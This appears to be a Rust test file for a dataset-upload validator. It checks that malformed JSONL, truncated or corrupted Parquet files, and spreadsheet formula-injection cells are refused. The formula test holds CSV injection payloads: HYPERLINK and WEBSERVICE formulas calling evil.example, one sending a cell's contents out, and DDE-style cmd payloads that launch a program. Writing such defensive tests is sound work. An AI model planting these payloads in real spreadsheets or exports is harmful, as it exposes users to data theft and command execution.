//! Rows that run, never end or promise more than they hold.

use super::{PROSE, judge};
use karat_types::Modality;

const PARQUET: &[u8] = include_bytes!("../../../fuzz/seeds/parquet/pairs-snappy.parquet");

fn line() -> &'static str {
    PROSE.trim_end()
}

fn csv(cell: &str) -> Vec<u8> {
    format!("instruction,output\n\"Tell me of the mill\",\"{}\"\n\"And then?\",{cell}\n", line()).into_bytes()
}

#[test]
fn cells_that_a_spreadsheet_would_run_are_held() {
    let formulas = [
        r#""=HYPERLINK(""http://evil.example/?""&A1,""open"")""#,
        r#""=cmd|'/c calc'!A0""#,
        r#""@SUM(1+9)*cmd|'/c calc'!A0""#,
        r#""+cmd|'/c calc'!A0""#,
        r#""=WEBSERVICE(""http://evil.example/"")""#,
    ];
    judge(Modality::Text, formulas.map(|cell| ("a formula", "rows.csv", csv(cell), "csv_formula")).into());
}

#[test]
fn broken_and_bottomless_rows_are_refused() {
    let deep = format!("{{\"text\": {}1{}}}\n", "[".repeat(100_000), "]".repeat(100_000));
    let chat = format!(r#"{{"messages": [{{"role": "user", "content": "{}"}}"#, line());
    let shape = format!(r#"{{"colour": 3}}{}"#, "\n");
    judge(
        Modality::Text,
        vec![
            ("a hundred thousand brackets", "a.jsonl", deep.into_bytes(), "record_not_json"),
            ("a row cut off", "a.jsonl", chat.into_bytes(), "record_not_json"),
            ("rows of no shape", "a.jsonl", shape.into_bytes(), "record_shape_unknown"),
            ("no row at all", "a.jsonl", b"\n\n\n".to_vec(), "records_none"),
            ("a quote never closed", "a.csv", csv("\"and so on").repeat(1), "csv_broken"),
        ],
    );
}

#[test]
fn parquet_that_lies_is_refused() {
    let cut = PARQUET[..PARQUET.len() - 9].to_vec();
    let mut long_footer = PARQUET.to_vec();
    let at = long_footer.len() - 8;
    long_footer[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
    let mut noise = PARQUET.to_vec();
    let end = noise.len() - 8;
    for (place, byte) in noise[end - 200..end].iter_mut().enumerate() {
        *byte = (place * 151 % 251) as u8;
    }
    judge(
        Modality::Text,
        vec![
            ("a table cut off", "a.parquet", cut, "broken_document"),
            ("a list longer than the file", "a.parquet", long_footer, "broken_document"),
            ("a list of noise", "a.parquet", noise, "broken_document"),
        ],
    );
}
